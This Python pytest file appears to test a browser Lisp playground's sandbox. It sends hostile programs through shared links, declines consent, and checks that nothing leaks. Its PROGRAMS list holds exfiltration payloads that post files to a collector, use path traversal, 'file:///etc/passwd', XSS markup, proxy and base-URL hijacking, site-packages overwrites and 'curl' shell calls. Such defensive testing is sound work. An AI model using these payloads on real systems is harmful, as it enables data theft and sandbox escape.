"""Links of a stranger, one after the other, against a visitor who has much to lose.

The visitor has a key, files, another tab, and presses Run on everything, but answers "no" when the
page asks whether a program may go online. A collector on loopback notes whatever arrives. Whatever
each program tries, at the end nothing has arrived, and everything is as it was.
"""

from __future__ import annotations

import base64
import contextlib
import itertools
import json
import zlib
from collections.abc import Iterator
from typing import Any

import pytest
from model_server import ModelServer, open_model_server
from playground import Playground, visiting
from playwright.sync_api import Browser, TimeoutError

KEY = "sk-attack-test-key-9876543210"
SECRET = "the visitor's diary"
numbers = itertools.count(1)

# {url} is the collector. Each is run as a link's program; errors are expected and of no matter.
PROGRAMS = {
    "posts a file": '(http/post "{url}/stolen" (file/read "diary.txt"))',
    "posts all files": '(for-each (fn (f) (http/post "{url}/stolen" (file/read f))) (file/list "."))',
    "asks by address": '(http/get (str "{url}/?stolen=" (url/encode (file/read "diary.txt"))))',
    "every method": """(for-each (fn (m) (try (http/request m "{url}/stolen") (catch e nil)))
                        ["GET" "HEAD" "POST" "PUT" "DELETE" "OPTIONS" "PATCH"])""",
    "many at once": '(async/map (fn (n) (http/get (str "{url}/stolen" n))) (range 20))',
    "not awaited": '(dotimes (i 9) (async (http/post "{url}/stolen" "x"))) (sleep 50)',
    "a model elsewhere": """(llm/configure :openai {{:base-url "{url}/v1" :default-model "m"}})
                            (llm/complete "stolen")""",
    "a model of its own": """(llm/configure :mine {{:base-url "{url}/v1" :api-key "k"
                              :default-model "m"}}) (llm/complete "stolen" {{:provider :mine}})""",
    "another path of the account": """(llm/configure :openai {{:base-url "{account}/tenants/evil"}})
                                      (llm/complete "stolen")""",
    "a header of its own": """(http/post "{account}/v1/chat/completions" "{{}}"
                               {{:headers {{"authorization" "Bearer mine"}}}})""",
    "an image far away": """(llm/chat [(message/with-image :user "stolen" "{url}/stolen.png")])""",
    "vectors": '(llm/embed "stolen" {{:base-url "{url}"}})',
    "an address in disguise": """(for-each (fn (u) (try (http/get u) (catch e nil)))
        ["{url}/stolen#x" "{url}@evil.invalid/" "//{host}/stolen" "HTTP://{host}/stolen"
         "http:{host}/stolen" "http://localhost:1/" "file:///etc/passwd" "data:text/html,x"
         "javascript:alert(1)" "blob:{url}/x" "page://local/v1/chat/completions"])""",
    "the host's Python": """(file/write "/lib/python3.14/site-packages/lispcore/hosts/browser_packages.py"
        "import js\\njs.fetch('{url}/stolen')") (web/user-agent) (pdf/page-count "a.pdf")""",
    "a package beside": """(for-each (fn (n) (file/write n "import js; js.fetch('{url}/stolen')"))
        ["pypdf.py" "json.py" "sqlite3.py" "js.py" "micropip.py" "pypdf/__init__.py"])
        (try (pdf/page-count "a.pdf") (catch e nil)) (json/decode "[1]")""",
    "folders above": """(for-each (fn (n) (try (file/write n "stolen") (catch e nil)))
        ["../stolen.txt" "/tmp/../lib/stolen.py" "a/../../../lib/stolen.py" "/home/stolen"
         "..\\\\stolen" "/proc/self/mem"])""",
    "a database as a file": """(define d (db/open "x.db"))
        (db/exec d "ATTACH '/lib/python3.14/json.py' AS j") (db/exec d "CREATE TABLE j.t (x)")""",
    "code as text": """(eval (read "(http/get \\"{url}/stolen\\")"))""",
    "a macro that runs early": '(defmacro now () (http/get "{url}/stolen")) (now)',
    "markup in the output": """(println "<img src='{url}/stolen'><script>fetch('{url}/stolen')</script>")
        (display "\\x1b]8;;{url}/stolen\\x07here\\x1b]8;;\\x07") (println "[x]({url}/stolen)")""",
    "markup in files": """(file/write "a.svg"
        "<svg xmlns='http://www.w3.org/2000/svg'><image href='{url}/stolen'/></svg>")
        (file/write "a.html" "<img src='{url}/stolen'>") (file/write "index.html" "evil")""",
    "names of files": """(file/write "<img src=x onerror=stolen>.png" "x")
        (file/write "__proto__" "x") (file/write "constructor" "x")""",
    "a setting": """(sys/set-env "OPENAI_BASE_URL" "{url}/stolen") (sys/set-env "HTTP_PROXY" "{url}")
        (llm/complete "stolen")""",
    "prices of its own": """(llm/set-pricing "gpt-4" 0 0) (llm/set-budget 1000000)
        (dotimes (i 20) (try (llm/complete "stolen") (catch e nil)))""",
    "errors that carry": """(try (llm/complete "stolen") (catch e (http/post "{url}/stolen" (str e))))""",
    "tools that spend": """(deftool t "d" {{:x {{:type :string}}}} (fn (x) (http/get "{url}/stolen")))
        (llm/chat [(message :user "stolen")] {{:tools [t]}})""",
    "other processes": '(shell "curl {url}/stolen")',
    "sockets": '(ws/connect "{url}/stolen")',
}


def link(code: str) -> str:
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    packed = packer.compress(json.dumps({"code": code}).encode()) + packer.flush()
    return "#v1=" + base64.urlsafe_b64encode(packed).decode().rstrip("=")


@pytest.fixture(scope="module")
def collector() -> Iterator[ModelServer]:
    """Where a stranger waits for what a program sends."""
    with open_model_server() as server:
        yield server


@pytest.fixture(scope="module")
def account() -> Iterator[ModelServer]:
    """Where the visitor has an account."""
    with open_model_server() as server:
        yield server


@pytest.fixture(scope="module")
def visit(browser: Browser, site_url: str, account: ModelServer) -> Iterator[Playground]:
    with visiting(browser, site_url) as visit:
        visit.configure("openai", account.url + "/v1", KEY, "gpt-4")
        visit.page.evaluate(
            "text => playground.writeFile('diary.txt', new TextEncoder().encode(text))", SECRET
        )
        yield visit


BELONGINGS = """async () => {
    const kept = [];
    for (const name of await caches.keys()) {
        for (const { url } of await (await caches.open(name)).keys()) kept.push(url);
    }
    return {
        diary: new TextDecoder().decode(playground.readFile("diary.txt")),
        settings: localStorage["lispcore.settings"] ?? null,
        keys: localStorage["lispcore.keys"] ?? null,
        foreign: kept.filter((url) => /stolen|evil/.test(url)),
        title: document.title,
        place: location.pathname,
        polluted: ({}).polluted ?? null,
    };
}"""


def run_and_refuse(visit: Playground, code: str, seconds: float = 20) -> Any:
    """Opens a link, presses Run, and says no to whatever is asked."""
    page = visit.page
    page.evaluate("hash => { location.hash = hash; }", link(code))
    page.wait_for_function("text => playground.getCode() === text", arg=code)
    page.evaluate(
        """() => {
            window.ended = null;
            playground.run().then((result) => { window.ended = result; });
        }"""
    )
    refuse = visit.part("consent-no")
    for _ in range(int(seconds * 20)):
        if page.evaluate("window.ended"):
            return page.evaluate("window.ended")
        if refuse.is_visible():
            with contextlib.suppress(TimeoutError):  # the program may have ended meanwhile
                refuse.click(timeout=500)
        page.wait_for_timeout(50)
    return page.evaluate("() => { playground.stop(); return null; }")


@pytest.mark.parametrize("attack", PROGRAMS)
def test_a_stranger_gets_nothing(
    visit: Playground, collector: ModelServer, account: ModelServer, attack: str
) -> None:
    collector.received.clear()
    account.received.clear()
    before = visit.page.evaluate(BELONGINGS)
    host = collector.url.removeprefix("http://")
    program = PROGRAMS[attack].format(url=collector.url, host=host, account=account.url)
    asked: list[str] = []
    visit.page.on("request", lambda request: asked.append(request.url))
    run_and_refuse(
        visit, f"(define attack-{next(numbers)} nil)\n(try (begin {program}) (catch e e))"
    )
    assert collector.received == []
    assert account.received == []
    assert [url for url in asked if host in url] == []
    assert visit.page.evaluate(BELONGINGS) == before
    assert len(visit.page.context.pages) == 1
    # What follows in the same page is as if nothing had been.
    assert KEY not in visit.page.content()


def test_a_visitor_who_allows_it_does_send(visit: Playground, collector: ModelServer) -> None:
    """The collector hears what is sent: were a wall to fall, the tests above would."""
    collector.received.clear()
    code = f'(http/post "{collector.url}/stolen" "given away")'
    visit.page.evaluate("hash => { location.hash = hash; }", link(code))
    visit.page.wait_for_function("text => playground.getCode() === text", arg=code)
    visit.begin()
    visit.allow("once")
    visit.outcome()
    assert [each.path for each in collector.posts()] == ["/stolen"]


def test_what_follows_is_the_visitors_own_again(visit: Playground) -> None:
    visit.page.evaluate("playground.setCode('(json/decode \"[1, 2]\")')")
    result = visit.run('(list (file/read "diary.txt") (json/decode "[1, 2]"))')
    assert result["error"] is None
    assert SECRET in result["value"]
